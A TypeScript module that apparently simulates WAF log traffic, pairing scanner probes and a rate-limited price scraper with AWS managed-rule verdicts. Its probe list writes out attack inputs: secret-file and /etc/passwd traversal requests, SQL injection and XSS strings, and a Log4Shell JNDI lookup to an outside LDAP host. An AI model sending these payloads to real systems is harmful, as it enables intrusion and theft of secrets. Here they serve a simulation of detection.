import type { Random } from '../random/random.ts';
import { createClient } from '../world/client.ts';
import { blocksFor } from '../world/networks.ts';
import type { World } from '../world/world.ts';
import { browserAgents, scannerAgents } from './agents.ts';
import { blockedRequest, type Connection, connect, routedRequest } from './request-factory.ts';
import type { Verdict, WebRequest } from './web-request.ts';

/** A path scanners ask for, and the managed rule that stops it (none: it goes through and is not found). */
export interface Probe {
  readonly path: string;
  readonly query: string;
  readonly rule?: ProbeRule;
}

interface ProbeRule {
  readonly group: string;
  readonly ruleId: string;
  readonly label: string;
  readonly condition: string;
  readonly location: string;
  readonly data: readonly string[];
}

const common = 'AWS#AWSManagedRulesCommonRuleSet';
const knownBad = 'AWS#AWSManagedRulesKnownBadInputsRuleSet';
const sqli = 'AWS#AWSManagedRulesSQLiRuleSet';

const sqliRule = (data: string[]): ProbeRule => ({
  group: sqli,
  ruleId: 'SQLi_QUERYARGUMENTS',
  label: 'awswaf:managed:aws:sql-database:SQLi_QueryArguments',
  condition: 'SQL_INJECTION',
  location: 'ALL_QUERY_ARGS',
  data,
});
export const metadataRule: ProbeRule = {
  group: common,
  ruleId: 'EC2MetaDataSSRF_QUERYARGUMENTS',
  label: 'awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_QueryArguments',
  condition: 'REGEX',
  location: 'ALL_QUERY_ARGS',
  data: [],
};
const traversalRule: ProbeRule = {
  group: common,
  ruleId: 'GenericLFI_URIPATH',
  label: 'awswaf:managed:aws:core-rule-set:GenericLFI_URIPath',
  condition: 'REGEX',
  location: 'URI',
  data: [],
};
const scriptRule: ProbeRule = {
  group: common,
  ruleId: 'CrossSiteScripting_QUERYARGUMENTS',
  label: 'awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments',
  condition: 'XSS',
  location: 'ALL_QUERY_ARGS',
  data: ['<', 'script'],
};
const exploitableRule: ProbeRule = {
  group: knownBad,
  ruleId: 'ExploitablePaths_URIPATH',
  label: 'awswaf:managed:aws:known-bad-inputs:ExploitablePaths_URIPath',
  condition: 'REGEX',
  location: 'URI',
  data: [],
};
const lookupRule: ProbeRule = {
  group: knownBad,
  ruleId: 'Log4JRCE_QUERYSTRING',
  label: 'awswaf:managed:aws:known-bad-inputs:Log4JRCE_QueryString',
  condition: 'REGEX',
  location: 'QUERY_STRING',
  data: [],
};

export const probes: readonly Probe[] = [
  { path: '/.env', query: '', rule: exploitableRule },
  { path: '/.git/config', query: '', rule: exploitableRule },
  { path: '/wp-login.php', query: '' },
  { path: '/xmlrpc.php', query: '' },
  { path: '/phpmyadmin/index.php', query: 'lang=en' },
  { path: '/admin/config.php', query: '' },
  { path: '/actuator/health', query: '' },
  { path: '/server-status', query: '' },
  { path: '/cgi-bin/luci', query: '' },
  { path: '/backup.zip', query: '' },
  { path: '/solr/admin/info/system', query: 'wt=json' },
  { path: '/static/../../../../etc/passwd', query: '', rule: traversalRule },
  { path: '/v2/shipments', query: 'id=1%27%20OR%20%271%27=%271', rule: sqliRule(["1'", 'OR', "'1'='1"]) },
  {
    path: '/track',
    query: 'number=1%20UNION%20SELECT%20NULL,version()--',
    rule: sqliRule(['1', 'UNION', 'SELECT', 'NULL']),
  },
  { path: '/help/search', query: 'q=%3Cscript%3Ealert(1)%3C/script%3E', rule: scriptRule },
  { path: '/', query: 'x=$%7Bjndi:ldap://203.0.113.250/a%7D', rule: lookupRule },
];

const reputation: Verdict = {
  action: 'BLOCK',
  rule: 'AWS-AWSManagedRulesAmazonIpReputationList',
  ruleKind: 'MANAGED_RULE_GROUP',
  matched: {
    group: 'AWS#AWSManagedRulesAmazonIpReputationList',
    ruleId: 'AWSManagedIPReputationList',
    condition: 'IP_SET',
    location: 'IP',
    data: [],
  },
  labels: ['awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList'],
};

const missing = { method: 'GET', status: 404, bytes: 150, milliseconds: 4 };

/** What the web ACL says when a managed rule stops a request. */
export function managedVerdict({ group, label, ...matched }: ProbeRule): Verdict {
  return {
    action: 'BLOCK',
    rule: `AWS-${group.slice('AWS#'.length)}`,
    ruleKind: 'MANAGED_RULE_GROUP',
    matched: { group, ...matched },
    labels: [label],
  };
}

/** Labels are large, so the rule on body size is set to count. */
export const largeBody: Verdict = managedVerdict({
  group: common,
  ruleId: 'SizeRestrictions_BODY',
  label: 'awswaf:managed:aws:core-rule-set:SizeRestrictions_Body',
  condition: 'SIZE_CONSTRAINT',
  location: 'BODY',
  data: [],
});

/** A probe as the web ACL and the servers answer it. */
export function probeRequest(random: Random, connection: Connection, time: number, probe: Probe): WebRequest {
  const request = routedRequest(random, connection, time, { ...missing, path: probe.path, query: probe.query });
  return probe.rule ? blockedRequest(request, managedVerdict(probe.rule)) : request;
}

/** Someone on rented machines tries a list of paths within a minute or two. */
export function scan(world: World, random: Random, start: number): readonly WebRequest[] {
  const connection = connect(random, {
    client: createClient(random, [...blocksFor('hosting'), ...blocksFor('relay')]),
    agent: random.pick(scannerAgents),
    balancer: world.publicBalancer,
    host: random.pick([...world.publicBalancer.hostNames, '203.0.113.80']),
  });
  const known = random.chance(0.35);
  let time = start;
  return Array.from({ length: 4 + random.count(22) }, () => {
    const request = probeRequest(random, connection, time, random.pick(probes));
    time += 60 + random.gap(1500);
    return known ? blockedRequest(request, reputation) : request;
  });
}

const tooMany: Verdict = { action: 'BLOCK', rule: 'limit-per-address', ruleKind: 'RATE_BASED', labels: [] };

/** A reader of prices asks so fast that the rate rule stops it after a while. */
export function scrape(world: World, random: Random, start: number): readonly WebRequest[] {
  const connection = connect(random, {
    client: createClient(random, blocksFor('hosting')),
    agent: random.pick(browserAgents),
    balancer: world.publicBalancer,
  });
  const route = {
    method: 'GET',
    path: '/v2/rates',
    query: 'from=IE&to=NL&weight={number}',
    status: 200,
    bytes: 880,
    milliseconds: 60,
  };
  let time = start;
  return Array.from({ length: 40 + random.count(40) }, (_, i) => {
    const request = routedRequest(random, connection, time, route);
    time += 30 + random.gap(120);
    return i > 30 ? blockedRequest(request, tooMany) : request;
  });
}
